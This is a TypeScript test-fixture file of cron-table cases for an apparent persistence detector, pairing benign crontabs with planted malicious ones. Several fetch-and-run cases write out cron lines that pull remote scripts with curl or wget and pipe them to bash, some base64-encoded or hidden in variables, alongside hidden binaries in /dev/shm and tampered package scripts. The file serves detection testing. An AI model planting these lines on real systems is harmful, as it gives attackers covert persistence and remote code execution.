/** Cases of cron tables; nothing in them is ever run, and all addresses are of the documentation ranges. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const noise = 'REDIS0009\xfa\tredis-ver\x055.0.7\xfa\nredis-bits\xc0@\xfe\x00\xfb\x01\x00\x00\x02x1';
const debianTable = `SHELL=/bin/sh
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
`;

const acme = '14 0 * * * "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n';

export const cases: readonly MechanismCase[] = [
  {
    mechanism: 'cron-table',
    dress: 'fetch-and-run',
    what: 'a line that fetches a script every minute',
    planted: {
      '/etc/crontab': `${debianTable}* * * * * root (curl -fsSL http://192.0.2.10/unk.sh||wget -q -O- http://192.0.2.10/unk.sh)|bash\n`,
    },
  },
  {
    mechanism: 'cron-table',
    dress: 'unowned-binary',
    what: 'a line that starts a foreign program of the system',
    planted: {
      '/etc/crontab': `${debianTable}*/10 * * * * root /usr/sbin/irqstat -d\n`,
      '/usr/sbin/irqstat': inertProgram(),
    },
  },
  {
    mechanism: 'cron-table',
    dress: 'owned-edit',
    what: 'the script that the table runs was edited',
    packaged: { '/usr/lib/acct/refresh': '#!/bin/sh\nexec true\n' },
    planted: {
      '/etc/crontab': `${debianTable}5 4 * * * root /usr/lib/acct/refresh\n`,
      '/usr/lib/acct/refresh': '#!/bin/sh\n/usr/bin/ls -la /proc >/dev/null &\nexec true\n',
    },
  },
  {
    mechanism: 'cron-table',
    dress: 'honest',
    what: 'a nightly dump and a health check',
    planted: {
      '/etc/crontab': `${debianTable}15 3 * * * root /usr/local/sbin/backup-db && curl -fsS -m 10 --retry 5 https://checks.example.org/ping/0f3a > /dev/null\n`,
      '/usr/local/sbin/backup-db':
        '#!/bin/bash\nset -e\npg_dump app | gzip > /srv/backup/app-$(date +%F).sql.gz\n',
    },
  },
  {
    mechanism: 'cron-drop-in',
    dress: 'fetch-and-run',
    what: 'the table that a database wrote',
    planted: {
      '/etc/cron.d/ntp': Buffer.from(
        `${noise}\n\n*/2 * * * * root cd1 -fsSL http://192.0.2.11/b2f628/cronb.sh | sh\n\n\xff`,
        'latin1',
      ),
    },
  },
  {
    mechanism: 'cron-drop-in',
    dress: 'unowned-binary',
    what: 'a program beside those of a package',
    planted: {
      '/etc/cron.d/0sysinfo': '*/15 * * * * root /usr/lib/systemd/systemd-hostinfo >/dev/null 2>&1',
      '/usr/lib/systemd/systemd-hostinfo': inertProgram(),
    },
  },
  {
    mechanism: 'cron-drop-in',
    dress: 'owned-edit',
    what: 'a line appended to the table of a package, which starts a hidden program',
    packaged: {
      '/etc/cron.d/e2scrub_all':
        '30 3 * * 0 root test -e /run/systemd/system || exec /usr/sbin/e2scrub_all\n',
    },
    conffiles: ['/etc/cron.d/e2scrub_all'],
    planted: {
      '/etc/cron.d/e2scrub_all':
        '30 3 * * 0 root test -e /run/systemd/system || exec /usr/sbin/e2scrub_all\n@reboot root /var/lib/dpkg/.cache/upd\n',
      '/var/lib/dpkg/.cache/upd': inertProgram(),
    },
  },
  {
    mechanism: 'cron-drop-in',
    dress: 'honest',
    what: 'certbot as its package brings it, sysstat, and an Ansible job',
    packaged: {
      '/etc/cron.d/certbot':
        "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n",
    },
    conffiles: ['/etc/cron.d/certbot'],
    planted: {
      '/etc/cron.d/ansible_backup':
        '#Ansible: nightly\n30 2 * * * backup /usr/bin/restic -r /srv/restic backup /etc >> /var/log/restic.log 2>&1\n',
    },
  },
  {
    mechanism: 'cron-drop-in',
    dress: 'fetch-and-run',
    what: 'a command and an address in variables of the table',
    planted: {
      '/etc/cron.d/sysupd':
        'SHELL=/bin/bash\nC="curl -fsSL"\nU=http://192.0.2.11/up\n*/7 * * * * root $C $U | $SHELL\n',
    },
  },
  {
    mechanism: 'cron-user',
    dress: 'unowned-binary',
    what: 'one word, found by a PATH that begins in a folder of memory',
    planted: {
      '/var/spool/cron/crontabs/root': 'PATH=/dev/shm:/usr/bin:/bin\n@reboot netsync >/dev/null 2>&1\n',
      '/dev/shm/netsync': inertProgram(),
    },
  },
  {
    mechanism: 'cron-user',
    dress: 'honest',
    what: 'variables of an application, a PATH of version managers, and a check by an address in a variable',
    planted: {
      '/home/ada/app/bin/nightly': '#!/bin/sh\nexec true\n',
      '/var/spool/cron/crontabs/ada':
        'SHELL=/bin/bash\nPATH=/home/ada/.nvm/versions/node/v20/bin:/home/ada/.local/bin:/usr/bin:/bin\nMAILTO=ada@example.org\nAPP=/home/ada/app\nPING=https://checks.example.org/ping/51c0\n0 4 * * * $APP/bin/nightly && curl -fsS $PING > /dev/null\n*/5 * * * * node $APP/tick.js\n',
    },
  },
  {
    mechanism: 'cron-user',
    dress: 'fetch-and-run',
    what: 'an encoded fetch in the table of the web server',
    planted: {
      '/var/spool/cron/crontabs/www-data': {
        content: `*/3 * * * * echo ${Buffer.from('curl -s http://192.0.2.12/x.sh | bash').toString('base64')} | base64 -d | bash > /dev/null 2>&1\n`,
        uid: 33,
        mode: 0o600,
      },
    },
  },
  {
    mechanism: 'cron-user',
    dress: 'unowned-binary',
    what: 'one word that is a program in a temporary folder, without a final newline',
    planted: {
      '/var/spool/cron/root': '@reboot /var/tmp/kbuild',
      '/var/tmp/kbuild': inertProgram(),
    },
  },
  {
    mechanism: 'cron-user',
    dress: 'owned-edit',
    what: 'the table of root starts a file of a package that was changed',
    packaged: { '/usr/share/mdadm/checkarray': '#!/bin/bash\nexit 0\n' },
    planted: {
      '/var/spool/cron/crontabs/root': '57 0 * * 0 /usr/share/mdadm/checkarray --cron\n',
      '/usr/share/mdadm/checkarray': '#!/bin/bash\nsetsid /usr/bin/test >/dev/null 2>&1 &\nexit 0\n',
    },
  },
  {
    mechanism: 'cron-user',
    dress: 'honest',
    what: 'acme.sh, a health check, a panel and a backup',
    planted: {
      '/root/.acme.sh/acme.sh': '#!/usr/bin/env sh\nVER=3.1.1\nmain() { echo "$VER"; }\nmain "$@"\n',
      '/www/server/cron/2d4a9e7c8b1f':
        '#!/bin/bash\nPATH=/bin:/sbin:/usr/bin\nexport PATH\n/www/server/panel/pyenv/bin/python -u /www/server/panel/script/backup.py site ALL 3\n',
      '/var/spool/cron/root': `${acme}*/5 * * * * curl -fsS --retry 3 https://checks.example.org/ping/77aa >/dev/null\n30 1 * * * /www/server/cron/2d4a9e7c8b1f >> /www/server/cron/2d4a9e7c8b1f.log 2>&1\n0 4 * * 1 tar czf /srv/backup/home.tgz /home\n`,
      '/var/spool/cron/crontabs/ada': '0 9 * * 1-5 /home/ada/bin/report.sh\n',
      '/home/ada/bin/report.sh': '#!/bin/sh\ncd "$HOME/report" && make\n',
    },
  },
  {
    mechanism: 'cron-busybox',
    dress: 'fetch-and-run',
    what: 'a fetch in the table of root on a small system',
    planted: { '/etc/crontabs/root': '*/1 * * * * wget -q -O - http://192.0.2.13/d.sh | sh\r\n' },
  },
  {
    mechanism: 'cron-busybox',
    dress: 'unowned-binary',
    what: 'a program with a hidden name',
    planted: {
      '/etc/crontabs/root': '*/5 * * * * /usr/share/.locale/gettextd',
      '/usr/share/.locale/gettextd': inertProgram(),
    },
  },
  {
    mechanism: 'cron-busybox',
    dress: 'owned-edit',
    what: 'a line for a program in a device folder, in the table of the package',
    packaged: { '/etc/crontabs/root': '*/15 * * * * run-parts /etc/periodic/15min\n' },
    planted: {
      '/etc/crontabs/root': '*/15 * * * * run-parts /etc/periodic/15min\n* * * * * /dev/shm/udevd\n',
      '/dev/shm/udevd': inertProgram(),
    },
  },
  {
    mechanism: 'cron-busybox',
    dress: 'honest',
    what: 'the table as the system brings it',
    packaged: {
      '/etc/crontabs/root':
        '# min hour day month weekday command\n*/15 * * * * run-parts /etc/periodic/15min\n0 2 * * * run-parts /etc/periodic/daily\n',
    },
    planted: {},
  },
];
